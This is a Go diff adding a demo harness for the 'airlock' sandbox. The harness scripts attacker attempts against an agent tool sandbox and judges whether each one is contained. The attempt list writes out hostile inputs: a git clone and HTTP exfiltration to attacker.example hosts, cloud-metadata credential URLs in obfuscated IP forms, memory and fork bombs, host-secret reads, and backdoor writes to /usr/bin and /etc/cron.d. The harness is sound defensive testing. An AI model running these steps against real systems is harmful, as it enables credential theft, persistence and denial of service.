@@ -1,0 +1,176 @@
+package demo
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+
+	"github.com/airlock-sandbox/airlock/audit"
+	"github.com/airlock-sandbox/airlock/enforcer"
+	"github.com/airlock-sandbox/airlock/sandbox"
+)
+
+// attempt is one thing the attacker tries, and how to judge its outcome.
+type attempt struct {
+	name    string
+	tool    string
+	task    string
+	command string
+	args    []string
+	slow    bool // trips a cap after seconds: run it alongside the others
+	judge   func(outcome) Attempt
+}
+
+// payloadAttempt runs airlock's own binary as the attacker's code.
+func payloadAttempt(name string, judge func(outcome) Attempt, args ...string) attempt {
+	return attempt{name: name, tool: PayloadTool, task: EgressTask, command: sandbox.SelfPath,
+		args: append([]string{"payload"}, args...), judge: judge}
+}
+
+// attempts is the demo's script: lab phase 5's three attempts, made real,
+// and the bombs and file-system escapes of phase 2 and the runbook.
+func attempts(secret, canary string) []attempt {
+	metadata := func(name, url string) attempt {
+		return payloadAttempt(name, egressJudge(name, "always blocked"), "http-get", url)
+	}
+	spin := payloadAttempt("infinite loop (ASI09)", capJudge("infinite loop (ASI09)", "cpu", "wall"), "spin")
+	spin.slow = true
+	return []attempt{
+		{name: "git clone https://attacker.example/repo through run_tests", tool: "run_tests",
+			command: "git", args: []string{"clone", "https://attacker.example/repo"},
+			judge: commandJudge("git clone https://attacker.example/repo through run_tests")},
+		spin,
+		payloadAttempt("direct TCP socket to the host's loopback "+canary, refusedJudge("direct TCP socket to the host's loopback "+canary, "network namespace"), "connect", canary),
+		payloadAttempt("proxy to evil.attacker.example", egressJudge("proxy to evil.attacker.example", "denied by default"), "http-get", "http://evil.attacker.example/exfil"),
+		metadata("proxy to 169.254.169.254", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+		metadata("proxy to 2852039166 (169.254.169.254 as one number)", "http://2852039166/latest/meta-data/"),
+		metadata("proxy to 0xA9FEA9FE (hex)", "http://0xA9FEA9FE/latest/meta-data/"),
+		metadata("proxy to 0251.0376.0251.0376 (octal)", "http://0251.0376.0251.0376/latest/meta-data/"),
+		metadata("proxy to [::ffff:169.254.169.254] (IPv4-mapped IPv6)", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
+		metadata("proxy to metadata.google.internal", "http://metadata.google.internal/computeMetadata/v1/"),
+		payloadAttempt("SOCKS5 to 169.254.169.254:80", egressJudge("SOCKS5 to 169.254.169.254:80", "always blocked"), "socks-connect", "169.254.169.254:80"),
+		payloadAttempt("proxy to search.example-corp.net (allowlisted for web_search)", allowedJudge("proxy to search.example-corp.net (allowlisted for web_search)"), "http-get", "http://search.example-corp.net/"),
+		payloadAttempt("memory bomb", capJudge("memory bomb", "memory"), "membomb"),
+		payloadAttempt("fork bomb", capJudge("fork bomb", "pids"), "forkbomb"),
+		payloadAttempt("read a host secret "+secret, refusedJudge("read a host secret "+secret, "filesystem view"), "read-file", secret),
+		payloadAttempt("write outside the workspace: /usr/bin/backdoor", refusedJudge("write outside the workspace: /usr/bin/backdoor", "filesystem view"), "write-file", "/usr/bin/backdoor"),
+		payloadAttempt("write outside the workspace: /etc/cron.d/backdoor", refusedJudge("write outside the workspace: /etc/cron.d/backdoor", "filesystem view"), "write-file", "/etc/cron.d/backdoor"),
+	}
+}
+
+func base(name string, o outcome) Attempt {
+	return Attempt{Attempt: name, Gate: string(o.res.Gate), Decision: o.res.Decision.String(), Reason: o.res.Reason}
+}
+
+// broken marks an attempt whose outcome could not be judged.
+func broken(a Attempt, o outcome, why string) Attempt {
+	a.Contained = false
+	a.Evidence = "BROKEN: " + why
+	if o.err != nil {
+		a.Evidence += ": " + o.err.Error()
+	}
+	return a
+}
+
+// commandJudge: refused at the command gate, and nothing was spawned.
+func commandJudge(name string) func(outcome) Attempt {
+	return func(o outcome) Attempt {
+		a := base(name, o)
+		launched := slices.ContainsFunc(o.events, func(ev audit.Event) bool {
+			return ev.Context.Event == audit.EventSandboxLaunched
+		})
+		a.Contained = o.res.ExitCode == enforcer.ExitGate && !launched
+		a.Evidence = fmt.Sprintf("exit %d; no sandbox was launched", o.res.ExitCode)
+		if launched {
+			a.Evidence = "a sandbox was launched"
+		}
+		return a
+	}
+}
+
+// capJudge: the run was killed by one of the named caps.
+func capJudge(name string, caps ...string) func(outcome) Attempt {
+	return func(o outcome) Attempt {
+		a := base(name, o)
+		if o.res.KilledBy == nil {
+			return broken(a, o, fmt.Sprintf("not killed by a cap (exit %d)", o.res.ExitCode))
+		}
+		a.Gate, a.Decision, a.Reason = "resource", "kill", o.res.KillReason
+		a.Contained = slices.Contains(caps, *o.res.KilledBy)
+		a.Evidence = fmt.Sprintf("killedBy %s after %d ms wall, %d ms CPU; exit %d", *o.res.KilledBy, o.res.WallMs, o.res.CPUMs, o.res.ExitCode)
+		return a
+	}
+}
+
+// refusedJudge: the payload ran, tried, and the kernel refused.
+func refusedJudge(name, control string) func(outcome) Attempt {
+	return func(o outcome) Attempt {
+		a := base(name, o)
+		if len(o.reports) == 0 {
+			return broken(a, o, "the payload reported nothing")
+		}
+		rep := o.reports[len(o.reports)-1]
+		a.Gate, a.Decision = control, "refused"
+		a.Reason = rep.Evidence
+		a.Contained = !rep.Succeeded
+		a.Evidence = "errno " + rep.Errno
+		if rep.Errno == "" {
+			a.Evidence = rep.Evidence
+		}
+		return a
+	}
+}
+
+// egressDecisions are the egress gate's decisions in a run's events.
+func egressDecisions(o outcome) []audit.Event {
+	var out []audit.Event
+	for _, ev := range o.events {
+		if ev.Kind == audit.KindEgress && ev.Decision != audit.DecisionInfo {
+			out = append(out, ev)
+		}
+	}
+	return out
+}
+
+// egressJudge: the proxy was asked and the egress gate denied, with a
+// reason containing want; the payload got nothing.
+func egressJudge(name, want string) func(outcome) Attempt {
+	return func(o outcome) Attempt {
+		a := base(name, o)
+		ds := egressDecisions(o)
+		if len(ds) == 0 {
+			return broken(a, o, "the proxy recorded no egress decision")
+		}
+		d := ds[len(ds)-1]
+		a.Gate, a.Decision, a.Reason = "egress", d.Decision, d.Reason
+		got := len(o.reports) > 0 && o.reports[len(o.reports)-1].Succeeded
+		a.Contained = d.Decision == audit.DecisionDeny && strings.Contains(d.Reason, want) && !got
+		a.Evidence = fmt.Sprintf("audit seq %d", d.Seq)
+		if len(o.reports) > 0 {
+			a.Evidence += "; payload saw: " + o.reports[len(o.reports)-1].Evidence
+		}
+		return a
+	}
+}
+
+// allowedJudge: the gate allowed an allowlisted host; whether the
+// connection then succeeded depends on the network, and is said.
+func allowedJudge(name string) func(outcome) Attempt {
+	return func(o outcome) Attempt {
+		a := base(name, o)
+		ds := egressDecisions(o)
+		if len(ds) == 0 {
+			return broken(a, o, "the proxy recorded no egress decision")
+		}
+		d := ds[len(ds)-1]
+		a.Gate, a.Decision, a.Reason = "egress", d.Decision, d.Reason
+		a.Contained = d.Decision == audit.DecisionAllow
+		a.Evidence = "allowed by policy"
+		for _, ev := range o.events {
+			if ev.Kind == audit.KindEgress && ev.Decision == audit.DecisionInfo {
+				a.Evidence = ev.Reason
+			}
+		}
+		return a
+	}
+}
